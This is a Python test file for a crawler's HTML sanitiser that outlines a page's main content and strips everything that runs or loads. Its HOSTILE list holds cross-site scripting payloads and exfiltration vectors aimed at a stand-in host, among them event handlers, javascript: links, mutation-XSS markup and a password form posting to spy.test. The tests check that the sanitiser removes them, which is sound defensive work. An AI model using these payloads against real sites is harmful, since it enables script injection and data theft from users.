"""The outlined page is a stranger's HTML: its words stay, marked, and nothing else of it does."""

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crawler.markup.outline import outlined

URL = "https://example.com/help"
ATTRIBUTES = {
    "lang",
    "charset",
    "http-equiv",
    "content",
    "name",
    "class",
    "colspan",
    "rowspan",
    "start",
    "value",
    "dir",
}


class Document(HTMLParser):
    """What a browser would find in the document."""

    def __init__(self, html: str):
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.texts: list[str] = []
        self.marked: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.marked += [f"{tag} {value}" for name, value in attrs if name == "class" and value in ("selected", "moved")]

    def handle_data(self, data):
        self.texts.append(data)


def test_what_is_selected_and_what_is_moved_is_outlined_and_labelled():
    html = "<title>Lamps</title><nav>Menu</nav><main><h1>Lamps</h1><nav>On this page</nav>Nine watts</main>"
    document = Document(outlined(html, URL))
    assert document.marked == ["nav moved", "main selected", "nav moved"]
    words = " ".join("".join(document.texts).split())
    assert "Selected: the page’s own text" in words and "Moved to the site’s own snippet" in words
    assert "Nine watts" in words and "<title>Lamps</title>" in outlined(html, URL)


def test_what_is_moved_and_stands_in_no_landmark_is_outlined_too():
    cookies = "<div><p>We use cookies. <button>Accept</button></p></div><div><b></b></div>"
    html = f"<title>Lamps</title>{cookies}Call 0800<div><p>Mill Lane</p></div><main><h1>Lamps</h1>Nine watts</main>"
    document = Document(outlined(html, URL))
    assert document.marked == ["div moved", "span moved", "div moved", "main selected"]
    assert document.texts.count("Moved to the site’s own snippet") == 3


def test_a_page_without_landmarks_is_selected_as_a_whole():
    assert Document(outlined("<p>Hello</p>", URL)).marked == ["div selected"]


def test_a_cell_that_is_the_main_part_is_outlined_itself():
    assert Document(outlined("<table><tr><td role=main>Hello", URL)).marked == ["td selected"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg><svg onload=alert(1)>",
    "<img src=https://spy.test/dot.gif onerror=alert(1) alt='\"><script>x</script>'>",
    "<a href='javascript:alert(1)' onclick=alert(1) ping=https://spy.test>go</a>",
    "<meta http-equiv=refresh content='0;url=https://spy.test'><base href=https://spy.test>",
    "<form action=https://spy.test><input name=password><button formaction=https://spy.test>Send</button></form>",
    "<iframe srcdoc='<script>x</script>' src=https://spy.test></iframe><object data=https://spy.test></object>",
    "<style>@import 'https://spy.test'</style><p style='background:url(https://spy.test)'>x</p>",
    "<link rel=stylesheet href=https://spy.test><video src=https://spy.test poster=https://spy.test></video>",
    "<math><mtext></p><img src=1 onerror=alert(1)></mtext></math><noscript><p title='</noscript><img src=x>'>",
    "<table background=https://spy.test><td background=https://spy.test colspan='9\" onclick=x'>x",
    "<html lang='\"><script>alert(1)</script>'><title></title><script>alert(1)</script></title>x",
    "<template><img src=https://spy.test></template><portal src=https://spy.test></portal><x-a onclick=x>y</x-a>",
    "<p id=a class='selected\" onclick=x' name=b accesskey=c tabindex=1 contenteditable autofocus onfocus=x>z",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_leads_anywhere_or_loads_is_left(html):
    safe = outlined(html, URL)
    document = Document(safe)
    assert document.names <= {"html", "head", "meta", "title", "style", "body"} | SAFE_NAMES
    assert document.attributes <= ATTRIBUTES
    assert "spy.test" not in safe.replace("&quot;", "")
    assert safe.count("<style>") == 1 and safe.count("<meta ") == 3


SAFE_NAMES = {"div", "p", "span", "table", "tbody", "tr", "td"}


def test_its_own_policy_forbids_all_but_inline_style():
    assert "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'" in outlined("<p>x", URL)


_NAMES = st.sampled_from(["p", "script", "style", "svg", "math", "title", "noscript", "table", "select", "x-y", "img"])
_VALUES = st.text(alphabet="<>\"'`=/& onclick", max_size=12)
_MARKUP = st.lists(
    st.builds("<{} {}={}>{}</{}>".format, _NAMES, st.sampled_from(["onclick", "href", "dir"]), _VALUES, _VALUES, _NAMES)
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_MARKUP.map("".join))
def test_broken_markup_lets_nothing_through(html):
    document = Document(outlined(html, URL))
    assert not document.names & {"script", "svg", "math", "select", "img", "a", "noscript", "x-y"}
    assert document.attributes <= ATTRIBUTES


def test_ten_thousand_levels_are_shown():
    assert "deep" in outlined("<div>" * 10_000 + "deep", URL)
